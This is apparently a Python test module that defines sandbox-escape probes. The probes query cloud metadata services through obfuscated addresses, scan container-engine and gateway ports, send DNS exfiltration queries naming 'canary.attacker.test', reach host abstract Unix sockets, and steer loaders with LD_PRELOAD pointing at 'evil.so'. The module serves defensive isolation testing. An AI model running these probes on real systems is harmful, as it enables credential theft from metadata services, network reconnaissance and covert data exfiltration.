"""Group B, the network and what stands on it. Every row that names an address runs among sinks, its control too."""

from __future__ import annotations

from terraphim_rlm.testing.attack.model import Row, Step

_CONNECT = """
import socket
def knock(host, port, word=b""):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(0.4)
        try:
            client.connect((host, port))
            client.sendall(word or b"GET / HTTP/1.0\\r\\n\\r\\n")
            harm("reached", host, port, client.recv(100))
        except OSError: pass
def shout(host, port, word):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as client:
        client.settimeout(0.1)
        try:
            client.sendto(word, (host, port)); client.recv(512)
            harm("was answered by", host, port)
        except OSError: pass
"""

_METADATA = (
    _CONNECT
    + """
hosts = ["169.254.169.254", "fd00:ec2::254", "100.100.100.200", "169.254.170.2", "192.0.0.192", "168.63.129.16",
         "::ffff:169.254.169.254", "0.0.0.0", "127.0.0.1", "::1"]
for host in hosts: knock(host, 80)
import urllib.request
for address in ("http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0xA9FEA9FE/", "http://0251.0376.0251.0376/",
                "http://metadata.google.internal/"):
    try: harm("fetched", address, urllib.request.urlopen(address, timeout=0.3).read(100))
    except OSError: pass
tried(len(hosts) + 5)
"""
)

_ENGINES = (
    _CONNECT
    + """
hosts = ["172.17.0.1", "172.18.0.1", "192.168.65.7", "192.168.65.254", "192.168.1.1", "10.0.2.2", "10.0.0.1", "127.0.0.1", "100.64.0.1"]
for host in hosts:
    for port in (2375, 2376, 6379, 8080): knock(host, port)
for name in ("host.docker.internal", "gateway.docker.internal", "kubernetes.default.svc"):
    try: harm("resolved", name, socket.gethostbyname(name))
    except OSError: pass
tried(len(hosts) * 4)
"""
)

_NAMES = (
    _CONNECT
    + """
import struct
name = b"\\x06canary\\x08attacker\\x04test\\0"
query = struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 16, 1)
servers = ["127.0.0.1", "127.0.0.53", "8.8.8.8", "1.1.1.1", "224.0.0.251", "::1", "2001:4860:4860::8888", "169.254.169.253"]
for server in servers:
    shout(server, 53, query); shout(server, 5353, query); knock(server, 53, struct.pack(">H", len(query)) + query)
    knock(server, 853); knock(server, 443)
for host in ("canary.attacker.test", "canary.local"):
    try: harm("resolved", host, socket.getaddrinfo(host, 80))
    except OSError: pass
tried(len(servers) * 5)
"""
)

_ABSTRACT = """
import socket
count = 0
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
    with socket.socket(socket.AF_UNIX, kind) as client:
        count += 1
        try: client.connect("\\0@ABSTRACT@"); harm("connected to an abstract socket of the host")
        except OSError: pass
for line in open("/proc/net/unix"):
    if "@" in line.rpartition(" ")[2]: harm("sees", line.split()[-1])
tried(count)
"""

_PRELOAD = 'echo "loader=${LD_PRELOAD-}${LD_LIBRARY_PATH-}${BASH_ENV-}${GIT_SSH_COMMAND-}" | sed "s/loader=..*/HARM steered the loader/"'
_STEERING = ("LD_PRELOAD", "LD_LIBRARY_PATH", "BASH_ENV", "GIT_SSH_COMMAND", "LD_AUDIT", "PYTHONHOME")

ROWS = (
    Row("B23", "P0", "connects to abstract Unix sockets of the host", (Step(_ABSTRACT),), off=("own-network",)),
    Row("B25", "P0", "asks cloud metadata services", (Step(_METADATA, timeout=15),), off=("own-network",), needs=("network",)),
    Row("B27", "P0", "asks container engines and gateways", (Step(_ENGINES, timeout=15),), off=("own-network",), needs=("network",)),
    Row("B28", "P0", "carries data out by name resolution", (Step(_NAMES, timeout=15),), off=("own-network",), needs=("network",)),
    Row(
        "B32", "P0", "steers loaders and shells by environment variables",
        tuple(Step(_PRELOAD, "sh", ("refused",), env={name: "/work/evil.so"}) for name in _STEERING),
        off=("no-loader-variables",),
    ),
)  # fmt: skip
